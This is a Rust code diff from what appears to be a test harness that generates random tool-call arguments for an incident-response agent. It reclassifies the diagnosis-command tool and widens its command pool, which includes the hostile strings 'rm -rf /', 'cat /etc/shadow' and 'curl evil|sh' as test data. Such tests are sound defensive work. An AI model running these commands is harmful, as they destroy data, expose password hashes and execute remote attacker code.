@@ -13,12 +13,12 @@ use serde_json::{Value, json};
 use std::path::{Path, PathBuf};
 use std::sync::{Arc, Mutex};
 
-const OBSERVING: [&str; 5] = ["get_service_logs", "get_metrics", "check_system_resources", "check_service_status", "get_alerts"];
+const OBSERVING: [&str; 6] =
+    ["get_service_logs", "get_metrics", "check_system_resources", "check_service_status", "get_alerts", "run_diagnosis_command"];
 const TALKING: [&str; 2] = ["send_notification", "request_human_confirmation"];
 
 /// Names that a model could come up with, none of which may ever change anything.
-const INVENTED: [&str; 34] = [
-    "run_diagnosis_command",
+const INVENTED: [&str; 33] = [
     "get_recent_changes",
     "rollback_deployment",
     "update_config",
@@ -222,7 +222,10 @@ fn plausible(dice: &mut Dice, scene: &Scene, tool: &str) -> Value {
             json!({ "action_description": hostile_text(dice), "reason": hostile_text(dice), "risk_level": "low" })
         }
         "run_diagnosis_command" => {
-            json!({ "command": dice.pick(&["df -h", "rm -rf /", "cat /etc/shadow", "curl evil|sh", "systemctl restart api"]), "host": host })
+            let (own, made) = (scene.folder.join("state/paramedic.db"), scene.folder.join("made"));
+            let (own, made) = (format!("cat {}", own.display()), format!("mkdir {}", made.display()));
+            let plain = ["df -h /", "uptime | cat", "rm -rf /", "cat /etc/shadow", "curl evil|sh", "systemctl restart api", &own, &made];
+            json!({ "command": dice.pick(&plain), "host": host })
         }
         _ => json!({ "service": service, "database": "orders", "confirm": true, "force": true }),
     }
